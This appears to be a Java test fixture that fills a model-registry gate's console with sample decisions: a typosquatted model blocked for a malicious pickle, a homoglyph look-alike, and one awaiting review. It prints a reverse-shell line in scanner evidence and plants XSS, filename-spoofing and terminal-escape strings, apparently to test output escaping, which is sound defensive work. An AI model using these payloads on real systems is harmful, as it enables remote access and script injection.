package io.weighbridge.registry.internal.console;

import io.weighbridge.hub.CommitId;
import io.weighbridge.hub.ModelId;
import io.weighbridge.json.Json;
import io.weighbridge.policy.Decision;
import io.weighbridge.policy.Outcome;
import io.weighbridge.policy.Reason;
import io.weighbridge.registry.internal.gate.DecisionSummary;
import io.weighbridge.registry.internal.gate.ModelRecord;
import io.weighbridge.registry.internal.gate.RevisionState;
import io.weighbridge.registry.internal.http.FakeGate;
import java.time.Instant;
import java.util.List;
import java.util.Optional;

/** Records as a gate would hold them after the battlecard's attack. */
final class SampleRecords {
  static final ModelId LOOK_ALIKE =
      new ModelId("distilbert", "distilbert-base-uncased-finetuned-sqad");
  static final ModelId GENUINE =
      new ModelId("distilbert", "distilbert-base-uncased-finetuned-squad");
  static final ModelId WAITING = new ModelId("acme", "sentiment-xl");
  private static final Instant TIME = Instant.parse("2026-11-23T14:02:00Z");
  private static final String STOPPED_TEXT =
      "distilbert/distilbert-base-uncased-finetuned-sqad is blocked: pytorch_model.bin runs a shell"
          + " command when it is loaded, and the name is one letter from"
          + " distilbert/distilbert-base-uncased-finetuned-squad. Pull that one:"
          + " hf download distilbert/distilbert-base-uncased-finetuned-squad";
  private static final String WAITING_TEXT =
      "acme/sentiment-xl waits for approval: the publisher appeared 9 days ago, and model.joblib"
          + " cannot be shown safe. Ask whoever runs this gate.";

  private SampleRecords() {}

  static void fill(FakeGate gate) {
    gate.decide(
        DecisionSummary.Kind.STOPPED,
        List.of(
            line(LOOK_ALIKE, RevisionState.REFUSED, STOPPED_TEXT, 14),
            line(
                new ModelId("openai-community", "gpt2-xI"),
                RevisionState.REFUSED,
                "openai-community/gpt2-xI is blocked: its name looks like"
                    + " openai-community/gpt2-xl, with a capital I for the l.",
                3),
            line(
                new ModelId("quantlab", "fin-embed-small"),
                RevisionState.WITHDRAWN,
                "quantlab/fin-embed-small was withdrawn by ravi: weights replaced without notice.",
                0)));
    gate.decide(
        DecisionSummary.Kind.WAITING,
        List.of(line(WAITING, RevisionState.REVIEW, WAITING_TEXT, 2)));
    gate.record(lookAlike());
    gate.record(genuine());
    gate.record(
        new ModelRecord(
            WAITING,
            "huggingface",
            List.of(
                revision(
                    "c", RevisionState.REVIEW, WAITING_TEXT, Outcome.REVIEW, hostileEvidence()))));
  }

  /** One more that waits for a person. */
  static void waiting(FakeGate gate, ModelId id) {
    gate.decide(
        DecisionSummary.Kind.WAITING, List.of(line(id, RevisionState.REVIEW, WAITING_TEXT, 2)));
    gate.record(
        new ModelRecord(
            id,
            "huggingface",
            List.of(
                revision(
                    "d", RevisionState.REVIEW, WAITING_TEXT, Outcome.REVIEW, hostileEvidence()))));
  }

  private static DecisionSummary line(ModelId id, RevisionState state, String text, long requests) {
    return new DecisionSummary(
        id, new CommitId("b".repeat(40)), "huggingface", state, text, TIME, requests);
  }

  private static ModelRecord lookAlike() {
    return new ModelRecord(
        LOOK_ALIKE,
        "huggingface",
        List.of(
            revision(
                "b",
                RevisionState.REFUSED,
                STOPPED_TEXT,
                Outcome.BLOCK,
                Json.parse(
                    """
                    {"evidence":1,"source":{"findings":[{"rule":"source/look-alike","severity":"malicious",
                    "message":"The name is one letter from distilbert/distilbert-base-uncased-finetuned-squad, pulled 1,204,331 times.",
                    "evidence":"finetuned-sqad ~ finetuned-squad","remedy":"Pull distilbert/distilbert-base-uncased-finetuned-squad.","references":["AML.T0010"]}],
                    "facts":[{"name":"publisher.ageDays","value":6,"sentence":"The publisher appeared 6 days ago.","source":"huggingface","tone":"against"},
                    {"name":"model.downloads","value":12,"sentence":"It was pulled 12 times in the last month.","source":"huggingface","tone":"neutral"},
                    {"name":"licence.card","value":"apache-2.0","sentence":"Its card names the licence apache-2.0.","source":"card","tone":"for"}]},
                    "files":[{"path":"pytorch_model.bin","format":"torch-zip","size":268435456,"verdict":"malicious","coverage":"full","reason":"",
                    "findings":[{"rule":"pickle/dangerous-call","severity":"malicious","message":"Loading it runs a shell command that opens a connection to another machine.",
                    "evidence":"__import__('os').system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')","members":["archive/data.pkl"],"offset":31,
                    "references":["CWE-502","AML.T0010","T1059.004"],"remedy":"Do not load it anywhere. Use the safetensors file of the genuine model."}]},
                    {"path":"config.json","format":"json","size":483,"verdict":"safe","coverage":"full","reason":"","findings":[]},
                    {"path":"tokenizer.json","format":"tokenizer","size":466062,"verdict":"safe","coverage":"full","reason":"","findings":[]},
                    {"path":"README.md","format":"text","size":8713,"verdict":"safe","coverage":"full","reason":"","findings":[]}]}
                    """))));
  }

  private static ModelRecord genuine() {
    return new ModelRecord(
        GENUINE,
        "huggingface",
        List.of(
            revision(
                "a",
                RevisionState.ADMITTED,
                "",
                Outcome.ADMIT,
                Json.parse(
                    """
                    {"evidence":1,"source":{"findings":[],"facts":[
                    {"name":"publisher.official","value":true,"sentence":"distilbert is the official publisher of this family.","source":"table","tone":"for"},
                    {"name":"publisher.ageDays","value":2400,"sentence":"The publisher appeared 6 years ago.","source":"huggingface","tone":"for"}]},
                    "files":[{"path":"model.safetensors","format":"safetensors","size":265470036,"verdict":"safe","coverage":"full","reason":"","findings":[]},
                    {"path":"config.json","format":"json","size":451,"verdict":"safe","coverage":"full","reason":"","findings":[]}]}
                    """))));
  }

  private static Json hostileEvidence() {
    return Json.object()
        .put("evidence", 1)
        .put(
            "files",
            Json.array(
                List.of(
                    Json.object()
                        .put("path", "<script>alert(1)</script>\u202egnp.exe")
                        .put("format", "joblib")
                        .put("size", 12)
                        .put("verdict", "suspicious")
                        .put("reason", "\u0000\u001b[31m\" onmouseover=\"x")
                        .put(
                            "findings",
                            Json.array(
                                List.of(
                                    Json.object()
                                        .put("rule", "pickle/unknown-callable")
                                        .put("severity", "suspicious")
                                        .put("message", "</p><img src=x onerror=alert(2)>\u200b")
                                        .put("evidence", "</pre><script>alert(3)</script>\u2066")
                                        .put(
                                            "references",
                                            Json.strings(
                                                List.of(
                                                    "javascript:alert(4)",
                                                    "CWE-79\"><script>",
                                                    "CVE-2025-1716")))
                                        .build())))
                        .build())))
        .build();
  }

  private static ModelRecord.RevisionRecord revision(
      String hex, RevisionState state, String text, Outcome outcome, Json evidence) {
    var reasons =
        outcome == Outcome.ADMIT
            ? List.<Reason>of()
            : List.of(
                new Reason(
                    outcome == Outcome.BLOCK ? "malicious-file" : "young-publisher",
                    outcome,
                    outcome == Outcome.BLOCK ? "pytorch_model.bin" : "",
                    false,
                    outcome == Outcome.BLOCK
                        ? "pytorch_model.bin is malicious: loading it runs a shell command."
                        : "The publisher appeared 9 days ago.",
                    outcome == Outcome.BLOCK
                        ? "Pull distilbert/distilbert-base-uncased-finetuned-squad instead."
                        : "Ask whoever runs this gate to approve it."));
    Decision plain = FakeGate.decision(outcome);
    var decision =
        new Decision(
            outcome,
            List.of(),
            reasons,
            Optional.empty(),
            hex.repeat(40),
            plain.manifestDigest(),
            plain.policyDigest(),
            plain.rulesDigest(),
            plain.evidenceDigest(),
            TIME);
    return new ModelRecord.RevisionRecord(
        new CommitId(hex.repeat(40)),
        state,
        Optional.empty(),
        Optional.of(decision),
        Optional.of(evidence),
        Optional.empty(),
        text,
        TIME,
        outcome == Outcome.ADMIT ? 0 : 14);
  }
}
